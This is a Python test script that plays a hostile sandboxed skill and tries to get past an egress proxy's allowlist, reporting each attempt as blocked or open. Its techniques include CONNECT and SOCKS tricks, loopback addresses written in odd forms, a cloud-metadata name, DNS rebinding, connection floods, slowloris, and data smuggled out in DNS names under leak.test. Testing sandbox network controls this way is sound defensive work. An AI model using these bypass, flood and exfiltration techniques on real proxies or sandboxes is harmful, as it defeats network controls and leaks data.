# SPDX-License-Identifier: GPL-2.0-or-later
"""A hostile skill in an allowlist run (tests/attacks/egress.sh): tries to
reach what the run's list does not name through the egress proxy on
127.0.0.1:3128, and around it.  One line per case, "CASE=BLOCKED:detail"
when the attempt failed, "CASE=OPEN:detail" when it got through, and
"CASE=OK:detail" for the controls that must work.

  probe PORT ABSTRACT   every reach attempt (PORT: the host's bait on its
                        127.0.0.1; ABSTRACT: the host's abstract socket)
  flood                 connection, handshake and record floods, then a
                        control fetch
  spent                 connections under net-egress 0
  names N               N CONNECTs, each to a new name under *.leak.test
                        (the data to smuggle out in DNS questions)
"""
import socket
import struct
import sys
import threading
import time

PROXY = ("127.0.0.1", 3128)


def out(case, verdict, detail):
    sys.stdout.write("%s=%s:%s\n" % (case, verdict, detail))
    sys.stdout.flush()


def recv_head(s):
    buf = b""
    while b"\r\n\r\n" not in buf and len(buf) < 65536:
        b = s.recv(4096)
        if not b:
            break
        buf += b
    return buf


def status(head):
    line = head.split(b"\r\n", 1)[0].decode("latin-1")
    parts = line.split(" ")
    return parts[1] if len(parts) > 1 else "none"


def http_through(target, path="/who"):
    """CONNECT to target ("host:port" as written), then GET path: the
    CONNECT status and the body (what answered)."""
    s = socket.create_connection(PROXY, timeout=15)
    try:
        s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n"
                   % (target, target)).encode("latin-1"))
        head = recv_head(s)
        code = status(head)
        if code != "200":
            return code, ""
        s.sendall(b"GET " + path.encode() + b" HTTP/1.0\r\nHost: x\r\n\r\n")
        data = b""
        while True:
            b = s.recv(65536)
            if not b:
                break
            data += b
        return code, data.split(b"\r\n\r\n", 1)[-1].decode("latin-1").strip()
    finally:
        s.close()


def connect_case(case, target):
    """Through CONNECT: BLOCKED unless the proxy said 200."""
    try:
        code, body = http_through(target)
    except OSError as e:
        out(case, "BLOCKED", "error %s" % e)
        return
    if code == "200":
        out(case, "OPEN", "200 %s" % body[:60])
    else:
        out(case, "BLOCKED", code)


def absolute_case(case, url):
    s = socket.create_connection(PROXY, timeout=15)
    s.sendall(("GET %s HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
               % url).encode("latin-1"))
    data = b""
    while True:
        b = s.recv(65536)
        if not b:
            break
        data += b
    s.close()
    code = status(data)
    body = data.split(b"\r\n\r\n", 1)[-1].decode("latin-1").strip()
    # 200 from the listed server (a URL that names it in some way) is not
    # a way out; from anything else it is.
    if code == "200" and body != "public":
        out(case, "OPEN", "200 %s" % body[:60])
    else:
        out(case, "BLOCKED", "%s %s" % (code, body[:20] if code == "200" else ""))


def socks_case(case, atyp, addr, port):
    s = socket.create_connection(PROXY, timeout=15)
    try:
        s.sendall(b"\x05\x01\x00")
        if s.recv(2) != b"\x05\x00":
            out(case, "BLOCKED", "no method")
            return
        if atyp == 3:
            a = bytes([len(addr)]) + addr.encode()
        elif atyp == 1:
            a = socket.inet_pton(socket.AF_INET, addr)
        else:
            a = socket.inet_pton(socket.AF_INET6, addr)
        s.sendall(b"\x05\x01\x00" + bytes([atyp]) + a + struct.pack("!H", port))
        rep = s.recv(2)
        code = rep[1] if len(rep) == 2 else -1
        out(case, "OPEN" if code == 0 else "BLOCKED", "reply %d" % code)
    finally:
        s.close()


def direct_case(case, family, addr):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(5)
    try:
        s.connect(addr)
        out(case, "OPEN", "connected")
    except OSError as e:
        out(case, "BLOCKED", "errno %s" % e.errno)
    finally:
        s.close()


def probe(port, abstract):
    # The control: the list works at all, so a refusal below means the list.
    code, body = http_through("public.test:8080")
    out("control", "OK" if body == "public" else "FAILED", "%s %s" % (code, body))

    connect_case("not_listed", "evil.test:8080")
    connect_case("listed_name_other_port", "public.test:8081")
    connect_case("listed_address_as_literal", "11.0.0.2:8080")
    connect_case("suffix_of_listed", "public.test.evil.test:8080")
    connect_case("userinfo", "public.test@evil.test:8080")
    connect_case("trailing_garbage", "evil.test:8080 public.test:8080")
    absolute_case("not_listed_absolute", "http://evil.test:8080/who")
    absolute_case("absolute_userinfo", "http://public.test:8080@evil.test:8080/who")
    socks_case("not_listed_socks", 3, "evil.test", 8080)
    socks_case("listed_address_socks_ipv4", 1, "11.0.0.2", 8080)

    # The host's 127.0.0.1 and its own addresses, spelled every way.
    for case, target in [
            ("host_lo_literal", "127.0.0.1:%s" % port),
            ("host_lo_localhost", "localhost:%s" % port),
            ("host_lo_v6", "[::1]:%s" % port),
            ("host_lo_v4mapped", "[::ffff:127.0.0.1]:%s" % port),
            ("host_lo_decimal", "2130706433:%s" % port),
            ("host_lo_hex", "0x7f000001:%s" % port),
            ("host_lo_short", "127.1:%s" % port),
            ("host_any", "0.0.0.0:%s" % port),
            ("host_own_address", "11.0.0.1:%s" % port),
            ("proxy_itself", "127.0.0.1:3128"),
            ("listed_name_to_loopback", "loop.test:8080"),
            ("listed_name_to_host_address", "self.test:8080"),
            ("listed_name_to_private", "private.test:8080"),
            ("listed_name_to_metadata", "meta.test:8080"),
            # Names with only AAAA answers.
            ("listed_name_to_v6_loopback", "v6loop.test:8080"),
            ("listed_name_to_v4mapped_loopback", "v6mapped.test:8080"),
            ("listed_name_to_nat64_loopback", "nat64.test:8080"),
            ("listed_name_to_host_v6_address", "v6self.test:8080"),
            ("listed_name_to_host_nat64", "nat64self.test:8080"),
            ("listed_name_to_host_siit", "siitself.test:8080")]:
        connect_case(case, target)
    socks_case("host_lo_socks_ipv4", 1, "127.0.0.1", int(port))
    socks_case("host_lo_socks_ipv6", 4, "::1", int(port))
    socks_case("host_lo_socks_name", 3, "localhost", int(port))
    socks_case("listed_name_to_loopback_socks", 3, "loop.test", 8080)

    # Around the proxy.
    direct_case("direct_host_lo", socket.AF_INET, ("127.0.0.1", int(port)))
    direct_case("direct_host_address", socket.AF_INET, ("11.0.0.1", int(port)))
    direct_case("direct_public", socket.AF_INET, ("11.0.0.2", 8080))
    direct_case("abstract", socket.AF_UNIX, "\0" + abstract)

    # DNS rebinding: names on the list whose answers change between
    # queries (TTL 0) or that carry a private address beside a public one.
    # Each try must reach the public server or be refused; a body other
    # than "public" is a server the list does not allow.
    for name in ("rebind.test", "rebind2.test", "mixed.test"):
        seen = {}
        for _ in range(8):
            try:
                code, body = http_through("%s:8080" % name)
            except OSError as e:
                code, body = "error", str(e.errno)
            key = body if code == "200" else code
            seen[key] = seen.get(key, 0) + 1
        detail = ",".join("%s*%d" % kv for kv in sorted(seen.items()))
        bad = [k for k in seen if k not in ("public", "403")]
        out("rebinding_" + name.split(".")[0],
            "OPEN" if bad else "BLOCKED", detail)


def flood():
    # 1. More connections than net-connections (4): the rest are refused,
    # the held ones are the skill's own.
    held, codes = [], {}
    for _ in range(64):
        try:
            s = socket.create_connection(PROXY, timeout=15)
            s.sendall(b"CONNECT public.test:8080 HTTP/1.1\r\nHost: x\r\n\r\n")
            c = status(recv_head(s))
        except OSError as e:
            c = "error-%s" % e.errno
            s = None
        codes[c] = codes.get(c, 0) + 1
        if s is not None:
            held.append(s)
    out("connections", "BLOCKED" if codes.get("200", 0) <= 4 else "OPEN",
        ",".join("%s*%d" % kv for kv in sorted(codes.items())))
    for s in held:
        s.close()
    time.sleep(0.5)

    # 2. Half-sent requests: the proxy closes them at its handshake timeout
    # instead of holding them for the run.
    slow = []
    for _ in range(4):
        s = socket.create_connection(PROXY, timeout=30)
        s.sendall(b"CONNECT public.te")
        slow.append(s)
    t0 = time.time()
    closed = 0
    for s in slow:
        try:
            s.settimeout(max(1, 25 - (time.time() - t0)))
            while s.recv(4096):
                pass
            closed += 1
        except OSError:
            pass
        s.close()
    out("slowloris", "BLOCKED" if closed == len(slow) else "OPEN",
        "%d of %d closed after %.1fs" % (closed, len(slow), time.time() - t0))

    # 3. Many short refused connections: more than the run's 1000
    # network_connect events (the rest are counted in network_summary).
    def burst(n, res):
        for _ in range(n):
            try:
                s = socket.create_connection(PROXY, timeout=15)
                s.sendall(b"CONNECT evil.test:8080 HTTP/1.1\r\nHost: x\r\n\r\n")
                res.append(status(recv_head(s)))
                s.close()
            except OSError:
                res.append("error")
    res = []
    threads = [threading.Thread(target=burst, args=(300, res)) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    out("refusals", "BLOCKED" if res.count("200") == 0 else "OPEN",
        "%d tries, %d refused" % (len(res), res.count("403")))

    # The proxy still serves the list.
    code, body = http_through("public.test:8080")
    out("after", "OK" if body == "public" else "FAILED", "%s %s" % (code, body))


def spent():
    """Under net-egress 0 the budget is spent from the start: no
    connection may reach the destination, even one that sends nothing
    with its request (a tunnel opened and left unused, a SOCKS CONNECT)."""
    s = socket.create_connection(PROXY, timeout=15)
    try:
        s.sendall(b"CONNECT public.test:8080 HTTP/1.1\r\nHost: x\r\n\r\n")
        code = status(recv_head(s))
        out("spent_tunnel", "OPEN" if code == "200" else "BLOCKED", code)
    finally:
        s.close()
    connect_case("spent_connect", "public.test:8080")
    socks_case("spent_socks", 3, "public.test", 8080)


def names(n):
    """Data out in the names the proxy looks up: each name of a wildcard
    entry is the skill's to choose, and no answer is needed.  "names"
    says how many the proxy took (its reply other than its 403 or 502)."""
    codes = {}
    for i in range(n):
        label = "%04d" % i + "0123456789abcdef" * 2
        try:
            code, _ = http_through("%s.leak.test:8080" % label)
        except OSError as e:
            code = "error %s" % e.errno
        codes[code] = codes.get(code, 0) + 1
    out("names", "DONE", " ".join("%s*%d" % kv for kv in sorted(codes.items())))


if __name__ == "__main__":
    if sys.argv[1] == "probe":
        probe(sys.argv[2], sys.argv[3])
    elif sys.argv[1] == "spent":
        spent()
    elif sys.argv[1] == "names":
        names(int(sys.argv[2]))
    else:
        flood()
